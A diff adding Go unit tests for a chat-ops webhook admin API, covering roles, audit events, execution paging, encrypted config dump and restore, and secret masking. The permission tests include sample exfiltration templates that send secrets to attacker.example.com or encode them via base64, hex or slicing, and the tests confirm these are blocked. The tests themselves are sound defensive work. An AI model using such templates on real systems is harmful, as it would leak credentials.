@@ -2,12 +2,20 @@ package application
 
 import (
 	"context"
+	"encoding/base64"
+	"fmt"
+	"net/http"
+	"net/http/httptest"
 	"reflect"
+	"strings"
 	"testing"
+	"time"
 
 	"github.com/juntaki/firestarter/domain"
 	proto "github.com/juntaki/firestarter/proto"
 	"github.com/pkg/errors"
+	"github.com/twitchtv/twirp"
+	"go.uber.org/zap"
 )
 
 type DummyConfigRepository struct {
@@ -17,6 +25,8 @@ type DummyConfigRepository struct {
 	dummySetConfig     func(*domain.Config) error
 	dummyIsExist       func(ID string) (bool, error)
 	dummyDeleteConfig  func(ID string) error
+	dummyRestoreConfig func(configs domain.ConfigMap, merge bool) error
+	revision           uint64
 }
 
 func (d *DummyConfigRepository) GetConfigList() (domain.ConfigMap, error) {
@@ -34,15 +44,81 @@ func (d *DummyConfigRepository) IsExist(ID string) (bool, error) {
 func (d *DummyConfigRepository) DeleteConfig(ID string) error {
 	return d.dummyDeleteConfig(ID)
 }
+func (d *DummyConfigRepository) RestoreConfigList(configs domain.ConfigMap, merge bool) error {
+	return d.dummyRestoreConfig(configs, merge)
+}
+func (d *DummyConfigRepository) Revision() uint64 {
+	return d.revision
+}
+
+type DummyAuditRepository struct {
+	events []*domain.AuditEvent
+}
+
+func (d *DummyAuditRepository) AddAuditEvent(e *domain.AuditEvent) error {
+	d.events = append(d.events, e)
+	return nil
+}
+func (d *DummyAuditRepository) ListAuditEvents(filter *domain.AuditFilter) ([]*domain.AuditEvent, error) {
+	events := []*domain.AuditEvent{}
+	for _, e := range d.events {
+		if filter.Match(e) {
+			events = append(events, e)
+		}
+	}
+	return events, nil
+}
+
+type DummyExecutionRepository struct {
+	executions []*domain.Execution // oldest first
+}
+
+func (d *DummyExecutionRepository) AddExecution(e *domain.Execution) error {
+	d.executions = append(d.executions, e)
+	return nil
+}
+func (d *DummyExecutionRepository) GetExecution(ID string) (*domain.Execution, error) {
+	for _, e := range d.executions {
+		if e.ID == ID {
+			return e, nil
+		}
+	}
+	return nil, errors.New("Not found")
+}
+func (d *DummyExecutionRepository) ListExecutions(filter *domain.ExecutionFilter, offset, limit int) ([]*domain.Execution, error) {
+	executions := []*domain.Execution{}
+	for i := len(d.executions) - 1; i >= 0; i-- {
+		if filter.Match(d.executions[i]) {
+			executions = append(executions, d.executions[i])
+		}
+	}
+	if offset > len(executions) {
+		offset = len(executions)
+	}
+	executions = executions[offset:]
+	if limit < len(executions) {
+		executions = executions[:limit]
+	}
+	return executions, nil
+}
+
+var ownerContext = domain.NewContextWithIdentity(context.Background(), &domain.Identity{
+	Name: "owner",
+	Role: domain.RoleOwner,
+})
 
 type DummyChatRepository struct {
 	domain.ChatRepository
 	dummyGetChannels func() (domain.Channels, error)
+	dummyGetMembers  func() (domain.Members, error)
 }
 
 func (d *DummyChatRepository) GetChannels() (domain.Channels, error) {
 	return d.dummyGetChannels()
 }
+func (d *DummyChatRepository) GetMembers() (domain.Members, error) {
+	return d.dummyGetMembers()
+}
 
 func TestAdminAPI_GetConfig(t *testing.T) {
 	type fields struct {
@@ -89,7 +165,7 @@ func TestAdminAPI_GetConfig(t *testing.T) {
 				Validator:      domain.NewValidator(),
 			},
 			args: args{
-				ctx:     context.Background(),
+				ctx:     ownerContext,
 				request: &proto.GetConfigRequest{},
 			},
 			want: &proto.Config{
@@ -108,6 +184,7 @@ func TestAdminAPI_GetConfig(t *testing.T) {
 						Value: "<SecretValue>",
 					},
 				},
+				Headers: []*proto.Header{},
 			},
 		},
 		{
@@ -122,7 +199,7 @@ func TestAdminAPI_GetConfig(t *testing.T) {
 				Validator:      domain.NewValidator(),
 			},
 			args: args{
-				ctx:     context.Background(),
+				ctx:     ownerContext,
 				request: &proto.GetConfigRequest{},
 			},
 			want:    &proto.Config{},
@@ -134,6 +211,7 @@ func TestAdminAPI_GetConfig(t *testing.T) {
 			a := &AdminAPI{
 				ConfigRepository: tt.fields.ConfigRepository,
 				ChatRepository:   tt.fields.ChatRepository,
+				AuditRepository:  &DummyAuditRepository{},
 				Validator:        tt.fields.Validator,
 			}
 			got, err := a.GetConfig(tt.args.ctx, tt.args.request)
@@ -172,6 +250,7 @@ func TestAdminAPI_GetConfigList(t *testing.T) {
 			a := &AdminAPI{
 				ConfigRepository: tt.fields.ConfigRepository,
 				ChatRepository:   tt.fields.ChatRepository,
+				AuditRepository:  &DummyAuditRepository{},
 				Validator:        tt.fields.Validator,
 			}
 			got, err := a.GetConfigList(tt.args.ctx, tt.args.request)
@@ -218,7 +297,7 @@ func TestAdminAPI_SetConfig(t *testing.T) {
 				Validator:      domain.NewValidator(),
 			},
 			args: args{
-				ctx: context.Background(),
+				ctx: ownerContext,
 				pbconfig: &proto.Config{
 					ID:           "",
 					Title:        "title",
@@ -254,7 +333,7 @@ func TestAdminAPI_SetConfig(t *testing.T) {
 				Validator:      domain.NewValidator(),
 			},
 			args: args{
-				ctx: context.Background(),
+				ctx: ownerContext,
 				pbconfig: &proto.Config{
 					ID:           "",
 					Title:        "title",
@@ -291,7 +370,7 @@ func TestAdminAPI_SetConfig(t *testing.T) {
 				Validator:      domain.NewValidator(),
 			},
 			args: args{
-				ctx: context.Background(),
+				ctx: ownerContext,
 				pbconfig: &proto.Config{
 					ID:           "",
 					Title:        "title",
@@ -328,7 +407,7 @@ func TestAdminAPI_SetConfig(t *testing.T) {
 				Validator:      domain.NewValidator(),
 			},
 			args: args{
-				ctx: context.Background(),
+				ctx: ownerContext,
 				pbconfig: &proto.Config{
 					ID:           "dummyid",
 					Title:        "title",
@@ -356,6 +435,7 @@ func TestAdminAPI_SetConfig(t *testing.T) {
 			a := &AdminAPI{
 				ConfigRepository: tt.fields.ConfigRepository,
 				ChatRepository:   tt.fields.ChatRepository,
+				AuditRepository:  &DummyAuditRepository{},
 				Validator:        tt.fields.Validator,
 			}
 			got, err := a.SetConfig(tt.args.ctx, tt.args.pbconfig)
@@ -394,6 +474,7 @@ func TestAdminAPI_DeleteConfig(t *testing.T) {
 			a := &AdminAPI{
 				ConfigRepository: tt.fields.ConfigRepository,
 				ChatRepository:   tt.fields.ChatRepository,
+				AuditRepository:  &DummyAuditRepository{},
 				Validator:        tt.fields.Validator,
 			}
 			got, err := a.DeleteConfig(tt.args.ctx, tt.args.r)
@@ -432,6 +513,7 @@ func TestAdminAPI_GetChannels(t *testing.T) {
 			a := &AdminAPI{
 				ConfigRepository: tt.fields.ConfigRepository,
 				ChatRepository:   tt.fields.ChatRepository,
+				AuditRepository:  &DummyAuditRepository{},
 				Validator:        tt.fields.Validator,
 			}
 			got, err := a.GetChannels(tt.args.ctx, tt.args.req)
@@ -446,6 +528,56 @@ func TestAdminAPI_GetChannels(t *testing.T) {
 	}
 }
 
+func TestAdminAPI_GetMembers(t *testing.T) {
+	tests := []struct {
+		name    string
+		ctx     context.Context
+		members domain.Members
+		want    *proto.Members
+		wantErr bool
+	}{
+		{
+			name: "users and groups",
+			ctx:  ownerContext,
+			members: domain.Members{
+				{ID: "U1", Name: "alice"},
+				{ID: "S1", Name: "sre", Group: true},
+			},
+			want: &proto.Members{
+				List: []*proto.Member{
+					{ID: "U1", Name: "alice"},
+					{ID: "S1", Name: "sre", Group: true},
+				},
+			},
+		},
+		{
+			name:    "anonymous",
+			ctx:     context.Background(),
+			want:    &proto.Members{},
+			wantErr: true,
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			a := &AdminAPI{
+				ChatRepository: &DummyChatRepository{
+					dummyGetMembers: func() (domain.Members, error) {
+						return tt.members, nil
+					},
+				},
+			}
+			got, err := a.GetMembers(tt.ctx, &proto.GetMembersRequest{})
+			if (err != nil) != tt.wantErr {
+				t.Errorf("AdminAPI.GetMembers() error = %v, wantErr %v", err, tt.wantErr)
+				return
+			}
+			if !reflect.DeepEqual(got, tt.want) {
+				t.Errorf("AdminAPI.GetMembers() = %v, want %v", got, tt.want)
+			}
+		})
+	}
+}
+
 func TestAdminAPI_pbConfigToConfig(t *testing.T) {
 	type fields struct {
 		ConfigRepository domain.ConfigRepository
@@ -468,6 +600,7 @@ func TestAdminAPI_pbConfigToConfig(t *testing.T) {
 			a := &AdminAPI{
 				ConfigRepository: tt.fields.ConfigRepository,
 				ChatRepository:   tt.fields.ChatRepository,
+				AuditRepository:  &DummyAuditRepository{},
 				Validator:        tt.fields.Validator,
 			}
 			if got := a.pbConfigToConfig(tt.args.pbconfig); !reflect.DeepEqual(got, tt.want) {
@@ -499,6 +632,7 @@ func TestAdminAPI_configToPbConfig(t *testing.T) {
 			a := &AdminAPI{
 				ConfigRepository: tt.fields.ConfigRepository,
 				ChatRepository:   tt.fields.ChatRepository,
+				AuditRepository:  &DummyAuditRepository{},
 				Validator:        tt.fields.Validator,
 			}
 			if got := a.configToPbConfig(tt.args.config); !reflect.DeepEqual(got, tt.want) {
@@ -507,3 +641,572 @@ func TestAdminAPI_configToPbConfig(t *testing.T) {
 		})
 	}
 }
+
+func TestAdminAPI_DumpRestoreConfigList(t *testing.T) {
+	dumped := &domain.Config{
+		CallbackID:         "callbackid",
+		Title:              "title",
+		Channels:           []string{"channel"},
+		TextTemplateString: "text",
+		RegexpString:       "regexp",
+		URLTemplateString:  "url",
+		Secrets: map[string]string{
+			"key": "value",
+		},
+	}
+	dumped.Hydrate()
+
+	var restored domain.ConfigMap
+	a := &AdminAPI{
+		ConfigRepository: &DummyConfigRepository{
+			dummyGetConfigList: func() (domain.ConfigMap, error) {
+				c := *dumped
+				c.Secrets = map[string]string{"key": "value"}
+				return domain.ConfigMap{c.CallbackID: &c}, nil
+			},
+			dummyRestoreConfig: func(configs domain.ConfigMap, merge bool) error {
+				restored = configs
+				return nil
+			},
+		},
+		ChatRepository:  &DummyChatRepository{},
+		AuditRepository: &DummyAuditRepository{},
+		Validator:       domain.NewValidator(),
+	}
+
+	list, err := a.DumpConfigList(ownerContext, &proto.DumpConfigListRequest{Password: "password"})
+	if err != nil {
+		t.Fatalf("AdminAPI.DumpConfigList() error = %v", err)
+	}
+	if list.Config[0].Secrets[0].Value == "value" {
+		t.Fatalf("AdminAPI.DumpConfigList() secret is not encrypted")
+	}
+
+	tests := []struct {
+		name     string
+		password string
+		wantErr  bool
+	}{
+		{
+			name:     "success",
+			password: "password",
+		},
+		{
+			name:     "wrong password",
+			password: "wrong",
+			wantErr:  true,
+		},
+		{
+			name:     "empty password",
+			password: "",
+			wantErr:  true,
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			restored = nil
+			_, err := a.RestoreConfigList(ownerContext, &proto.RestoreConfigListRequest{
+				Password:   tt.password,
+				ConfigList: list,
+			})
+			if (err != nil) != tt.wantErr {
+				t.Errorf("AdminAPI.RestoreConfigList() error = %v, wantErr %v", err, tt.wantErr)
+				return
+			}
+			if tt.wantErr {
+				return
+			}
+			if got := restored["callbackid"]; got == nil || !reflect.DeepEqual(got.Secrets, dumped.Secrets) {
+				t.Errorf("AdminAPI.RestoreConfigList() = %v, want %v", got, dumped)
+			}
+		})
+	}
+}
+
+func TestAdminAPI_Permission(t *testing.T) {
+	viewer := domain.NewContextWithIdentity(context.Background(), &domain.Identity{
+		Name: "viewer",
+		Role: domain.RoleViewer,
+	})
+	editor := domain.NewContextWithIdentity(context.Background(), &domain.Identity{
+		Name:  "editor",
+		Role:  domain.RoleEditor,
+		Teams: []string{"infra"},
+	})
+
+	repository := &DummyConfigRepository{
+		dummyGetConfig: func(ID string) (*domain.Config, error) {
+			c := &domain.Config{
+				CallbackID:         ID,
+				Channels:           []string{"channel"},
+				TextTemplateString: "text",
+				RegexpString:       "regexp",
+				URLTemplateString:  "url",
+				Team:               ID, // ID is the team for test
+				Secrets:            map[string]string{"key": "value"},
+			}
+			c.Hydrate()
+			return c, nil
+		},
+		dummyIsExist:      func(ID string) (bool, error) { return true, nil },
+		dummySetConfig:    func(*domain.Config) error { return nil },
+		dummyDeleteConfig: func(ID string) error { return nil },
+	}
+	a := &AdminAPI{
+		ConfigRepository: repository,
+		ChatRepository:   &DummyChatRepository{},
+		AuditRepository:  &DummyAuditRepository{},
+		Validator:        domain.NewValidator(),
+	}
+	pbconfig := func(ID, team string) *proto.Config {
+		return &proto.Config{
+			ID:           ID,
+			Channels:     []string{"channel"},
+			TextTemplate: "text",
+			Regexp:       "regexp",
+			URLTemplate:  "url",
+			Team:         team,
+		}
+	}
+
+	tests := []struct {
+		name     string
+		call     func() error
+		wantCode twirp.ErrorCode
+	}{
+		{
+			name: "viewer can get config",
+			call: func() error {
+				c, err := a.GetConfig(viewer, &proto.GetConfigRequest{ID: "infra"})
+				if err == nil && len(c.Secrets) != 0 {
+					return errors.New("secrets are visible")
+				}
+				return err
+			},
+		},
+		{
+			name: "anonymous cannot get config",
+			call: func() error {
+				_, err := a.GetConfig(context.Background(), &proto.GetConfigRequest{ID: "infra"})
+				return err
+			},
+			wantCode: twirp.Unauthenticated,
+		},
+		{
+			name: "viewer cannot set config",
+			call: func() error {
+				_, err := a.SetConfig(viewer, pbconfig("infra", "infra"))
+				return err
+			},
+			wantCode: twirp.PermissionDenied,
+		},
+		{
+			name: "editor can set config of own team",
+			call: func() error {
+				_, err := a.SetConfig(editor, pbconfig("infra", "infra"))
+				return err
+			},
+		},
+		{
+			name: "editor cannot change URL of config with secrets",
+			call: func() error {
+				c := pbconfig("infra", "infra")
+				c.URLTemplate = "https://attacker.example.com/?t={{.secrets.key}}"
+				_, err := a.SetConfig(editor, c)
+				return err
+			},
+			wantCode: twirp.PermissionDenied,
+		},
+		{
+			name: "editor cannot change body of config with secrets",
+			call: func() error {
+				c := pbconfig("infra", "infra")
+				c.BodyTemplate = "{{b64enc .secrets.key}}"
+				_, err := a.SetConfig(editor, c)
+				return err
+			},
+			wantCode: twirp.PermissionDenied,
+		},
+		{
+			name: "editor cannot change headers of config with secrets",
+			call: func() error {
+				c := pbconfig("infra", "infra")
+				c.Headers = []*proto.Header{{Key: "X-Token", Value: "{{.secrets.key}}"}}
+				_, err := a.SetConfig(editor, c)
+				return err
+			},
+			wantCode: twirp.PermissionDenied,
+		},
+		{
+			name: "editor cannot change options URL of config with secrets",
+			call: func() error {
+				c := pbconfig("infra", "infra")
+				c.Actions = []string{"master"}
+				c.OptionsURL = "https://attacker.example.com/?t={{.secrets.key}}"
+				_, err := a.SetConfig(editor, c)
+				return err
+			},
+			wantCode: twirp.PermissionDenied,
+		},
+		{
+			name: "owner can change URL of config with secrets",
+			call: func() error {
+				c := pbconfig("infra", "infra")
+				c.URLTemplate = "https://ci.example.com/?t={{.secrets.key}}"
+				_, err := a.SetConfig(ownerContext, c)
+				return err
+			},
+		},
+		{
+			name: "editor cannot take config of other team",
+			call: func() error {
+				_, err := a.SetConfig(editor, pbconfig("web", "infra"))
+				return err
+			},
+			wantCode: twirp.PermissionDenied,
+		},
+		{
+			name: "editor cannot move config to other team",
+			call: func() error {
+				_, err := a.SetConfig(editor, pbconfig("infra", "web"))
+				return err
+			},
+			wantCode: twirp.PermissionDenied,
+		},
+		{
+			name: "editor cannot delete config",
+			call: func() error {
+				_, err := a.DeleteConfig(editor, &proto.DeleteConfigRequest{ID: "infra"})
+				return err
+			},
+			wantCode: twirp.PermissionDenied,
+		},
+		{
+			name: "owner can delete config",
+			call: func() error {
+				_, err := a.DeleteConfig(ownerContext, &proto.DeleteConfigRequest{ID: "infra"})
+				return err
+			},
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			err := tt.call()
+			if tt.wantCode == "" {
+				if err != nil {
+					t.Errorf("error = %v, want nil", err)
+				}
+				return
+			}
+			twerr, ok := err.(twirp.Error)
+			if !ok || twerr.Code() != tt.wantCode {
+				t.Errorf("error = %v, want %v", err, tt.wantCode)
+			}
+		})
+	}
+}
+
+func TestAdminAPI_AuditEvents(t *testing.T) {
+	audit := &DummyAuditRepository{}
+	a := &AdminAPI{
+		ConfigRepository: &DummyConfigRepository{
+			dummyIsExist: func(ID string) (bool, error) { return true, nil },
+			dummyGetConfig: func(ID string) (*domain.Config, error) {
+				c := &domain.Config{
+					CallbackID:         ID,
+					Channels:           []string{"channel"},
+					TextTemplateString: "text",
+					RegexpString:       "regexp",
+					URLTemplateString:  "http://example.com/?token=old-secret",
+					Secrets:            map[string]string{"token": "old-secret"},
+				}
+				c.Hydrate()
+				return c, nil
+			},
+			dummySetConfig: func(*domain.Config) error { return nil },
+		},
+		ChatRepository:  &DummyChatRepository{},
+		AuditRepository: audit,
+		Validator:       domain.NewValidator(),
+	}
+
+	_, err := a.SetConfig(ownerContext, &proto.Config{
+		ID:           "callbackid",
+		Channels:     []string{"channel"},
+		TextTemplate: "text",
+		Regexp:       "regexp",
+		URLTemplate:  "http://example.com/?token=new-secret",
+		Secrets:      []*proto.Secret{{Key: "token", Value: "new-secret"}},
+	})
+	if err != nil {
+		t.Fatalf("AdminAPI.SetConfig() error = %v", err)
+	}
+
+	got, err := a.ListAuditEvents(ownerContext, &proto.ListAuditEventsRequest{ConfigID: "callbackid"})
+	if err != nil {
+		t.Fatalf("AdminAPI.ListAuditEvents() error = %v", err)
+	}
+	want := &proto.AuditEvent{
+		ID:       audit.events[0].ID,
+		Time:     audit.events[0].Time.Unix(),
+		Actor:    "owner",
+		Action:   domain.AuditActionSetConfig,
+		ConfigID: "callbackid",
+		Diff: []string{
+			`URLTemplateString: "http://example.com/?token=<SecretValue>" -> "http://example.com/?token=<SecretValue>"`,
+			"Secrets.token: changed",
+		},
+		Outcome: domain.AuditOutcomeSuccess,
+	}
+	if len(got.Events) != 1 || !reflect.DeepEqual(got.Events[0], want) {
+		t.Errorf("AdminAPI.ListAuditEvents() = %v, want %v", got.Events, want)
+	}
+
+	got, err = a.ListAuditEvents(ownerContext, &proto.ListAuditEventsRequest{ConfigID: "other"})
+	if err != nil || len(got.Events) != 0 {
+		t.Errorf("AdminAPI.ListAuditEvents() = %v, %v, want empty", got, err)
+	}
+}
+
+func TestAdminAPI_GetExecutions(t *testing.T) {
+	repo := &DummyExecutionRepository{}
+	for _, id := range []string{"1", "2", "3", "4", "5"} {
+		repo.AddExecution(&domain.Execution{
+			ID:         id,
+			Time:       time.Unix(0, 0),
+			ConfigID:   "callbackid",
+			StatusCode: 200,
+			Latency:    1500 * time.Millisecond,
+		})
+	}
+	a := &AdminAPI{ExecutionRepository: repo}
+
+	tests := []struct {
+		name          string
+		request       *proto.GetExecutionsRequest
+		wantIDs       []string
+		wantNextToken string
+		wantErr       bool
+	}{
+		{
+			name:          "first page",
+			request:       &proto.GetExecutionsRequest{PageSize: 2},
+			wantIDs:       []string{"5", "4"},
+			wantNextToken: "2",
+		},
+		{
+			name:          "next page",
+			request:       &proto.GetExecutionsRequest{PageSize: 2, PageToken: "2"},
+			wantIDs:       []string{"3", "2"},
+			wantNextToken: "4",
+		},
+		{
+			name:          "last page",
+			request:       &proto.GetExecutionsRequest{PageSize: 2, PageToken: "4"},
+			wantIDs:       []string{"1"},
+			wantNextToken: "",
+		},
+		{
+			name:    "other config",
+			request: &proto.GetExecutionsRequest{ConfigID: "other"},
+			wantIDs: []string{},
+		},
+		{
+			name:    "invalid token",
+			request: &proto.GetExecutionsRequest{PageToken: "invalid"},
+			wantErr: true,
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got, err := a.GetExecutions(ownerContext, tt.request)
+			if (err != nil) != tt.wantErr {
+				t.Fatalf("AdminAPI.GetExecutions() error = %v, wantErr %v", err, tt.wantErr)
+			}
+			if tt.wantErr {
+				return
+			}
+			ids := []string{}
+			for _, e := range got.Executions {
+				ids = append(ids, e.ID)
+			}
+			if !reflect.DeepEqual(ids, tt.wantIDs) || got.NextPageToken != tt.wantNextToken {
+				t.Errorf("AdminAPI.GetExecutions() = %v %q, want %v %q", ids, got.NextPageToken, tt.wantIDs, tt.wantNextToken)
+			}
+		})
+	}
+
+	got, err := a.GetExecution(ownerContext, &proto.GetExecutionRequest{ID: "3"})
+	want := &proto.Execution{ID: "3", ConfigID: "callbackid", StatusCode: 200, LatencyMs: 1500}
+	if err != nil || !reflect.DeepEqual(got, want) {
+		t.Errorf("AdminAPI.GetExecution() = %v, %v, want %v", got, err, want)
+	}
+	if _, err := a.GetExecution(ownerContext, &proto.GetExecutionRequest{ID: "6"}); err == nil {
+		t.Errorf("AdminAPI.GetExecution() want error")
+	}
+}
+
+func TestAdminAPI_TestConfig(t *testing.T) {
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		if r.URL.Query().Get("token") != "secret" {
+			w.WriteHeader(http.StatusUnauthorized)
+			return
+		}
+		w.Write([]byte(`{"status":"queued"}`))
+	}))
+	defer server.Close()
+
+	executions := &DummyExecutionRepository{}
+	a := &AdminAPI{
+		ConfigRepository: &DummyConfigRepository{
+			dummyIsExist: func(ID string) (bool, error) { return true, nil },
+			dummyGetConfig: func(ID string) (*domain.Config, error) {
+				return &domain.Config{
+					CallbackID: ID,
+					Secrets:    map[string]string{"token": "secret"},
+				}, nil
+			},
+		},
+		AuditRepository:     &DummyAuditRepository{},
+		ExecutionRepository: executions,
+		Validator:           domain.NewValidator(),
+		Log:                 zap.NewNop().Sugar(),
+	}
+	config := &proto.Config{
+		ID:               "callbackid",
+		Channels:         []string{"general"},
+		TextTemplate:     "deploy {{index .matched 1}}",
+		Regexp:           "deploy (.*)",
+		URLTemplate:      server.URL + "/?token={{.secrets.token}}&target={{.value}}",
+		BodyTemplate:     `{"branch":"{{index .matched 1}}"}`,
+		ResponseTemplate: "{{.body.status}}",
+		Secrets:          []*proto.Secret{{Key: "token", Value: domain.SercretValueMask}},
+	}
+
+	tests := []struct {
+		name    string
+		request *proto.TestConfigRequest
+		want    *proto.TestConfigResponse
+	}{
+		{
+			name: "dry run",
+			request: &proto.TestConfigRequest{
+				Config:  config,
+				Message: "deploy master",
+				Channel: "general",
+				Value:   "production",
+			},
+			want: &proto.TestConfigResponse{
+				Matched: true,
+				Groups:  []string{"deploy master", "master"},
+				Text:    "deploy master",
+				URL:     server.URL + "/?token=" + domain.SercretValueMask + "&target=production",
+				Body:    `{"branch":"master"}`,
+			},
+		},
+		{
+			name: "other channel",
+			request: &proto.TestConfigRequest{
+				Config:  config,
+				Message: "deploy master",
+				Channel: "random",
+			},
+			want: &proto.TestConfigResponse{
+				Matched: false,
+				Groups:  []string{"deploy master", "master"},
+				Text:    "deploy master",
+				URL:     server.URL + "/?token=" + domain.SercretValueMask + "&target=",
+				Body:    `{"branch":"master"}`,
+			},
+		},
+		{
+			name: "send",
+			request: &proto.TestConfigRequest{
+				Config:  config,
+				Message: "deploy master",
+				Channel: "general",
+				Value:   "production",
+				Send:    true,
+			},
+			want: &proto.TestConfigResponse{
+				Matched:      true,
+				Groups:       []string{"deploy master", "master"},
+				Text:         "deploy master",
+				URL:          server.URL + "/?token=" + domain.SercretValueMask + "&target=production",
+				Body:         `{"branch":"master"}`,
+				StatusCode:   200,
+				ResponseBody: `{"status":"queued"}`,
+				Response:     "queued",
+			},
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got, err := a.TestConfig(ownerContext, tt.request)
+			if err != nil {
+				t.Fatalf("AdminAPI.TestConfig() error = %v", err)
+			}
+			if !reflect.DeepEqual(got, tt.want) {
+				t.Errorf("AdminAPI.TestConfig() = %v, want %v", got, tt.want)
+			}
+		})
+	}
+
+	if len(executions.executions) != 1 || executions.executions[0].StatusCode != 200 {
+		t.Errorf("AdminAPI.TestConfig() executions = %v, want one", executions.executions)
+	}
+}
+
+func TestAdminAPI_TestConfig_editor(t *testing.T) {
+	editor := domain.NewContextWithIdentity(context.Background(), &domain.Identity{
+		Name:  "editor",
+		Role:  domain.RoleEditor,
+		Teams: []string{"infra"},
+	})
+	a := &AdminAPI{
+		ConfigRepository: &DummyConfigRepository{
+			dummyIsExist: func(ID string) (bool, error) { return true, nil },
+			dummyGetConfig: func(ID string) (*domain.Config, error) {
+				return &domain.Config{
+					CallbackID: ID,
+					Team:       "infra",
+					Secrets:    map[string]string{"token": "hunter2"},
+				}, nil
+			},
+		},
+		AuditRepository:     &DummyAuditRepository{},
+		ExecutionRepository: &DummyExecutionRepository{},
+		Validator:           domain.NewValidator(),
+		Log:                 zap.NewNop().Sugar(),
+	}
+	config := &proto.Config{
+		ID:           "callbackid",
+		Team:         "infra",
+		Channels:     []string{"general"},
+		TextTemplate: "deploy",
+		Regexp:       "deploy",
+		URLTemplate:  "http://localhost/?token={{b64enc .secrets.token}}",
+		BodyTemplate: `{{printf "%x" .secrets.token}}`,
+		Headers:      []*proto.Header{{Key: "X-Token", Value: "{{slice .secrets.token 1}}"}},
+		Secrets:      []*proto.Secret{{Key: "token", Value: domain.SercretValueMask}},
+	}
+
+	got, err := a.TestConfig(editor, &proto.TestConfigRequest{Config: config, Message: "deploy", Channel: "general"})
+	if err != nil {
+		t.Fatalf("AdminAPI.TestConfig() error = %v", err)
+	}
+	rendered := got.URL + got.Body + got.Headers[0].Value
+	for _, leaked := range []string{fmt.Sprintf("%x", "hunter2"), base64.StdEncoding.EncodeToString([]byte("hunter2")), "unter2"} {
+		if strings.Contains(rendered, leaked) {
+			t.Errorf("AdminAPI.TestConfig() = %v, leaks %q", got, leaked)
+		}
+	}
+	if want := fmt.Sprintf("%x", domain.SercretValueMask); got.Body != want {
+		t.Errorf("AdminAPI.TestConfig() body = %q, want %q", got.Body, want)
+	}
+
+	_, err = a.TestConfig(editor, &proto.TestConfigRequest{Config: config, Message: "deploy", Channel: "general", Send: true})
+	if twerr, ok := err.(twirp.Error); !ok || twerr.Code() != twirp.PermissionDenied {
+		t.Errorf("AdminAPI.TestConfig() send error = %v, want permission denied", err)
+	}
+}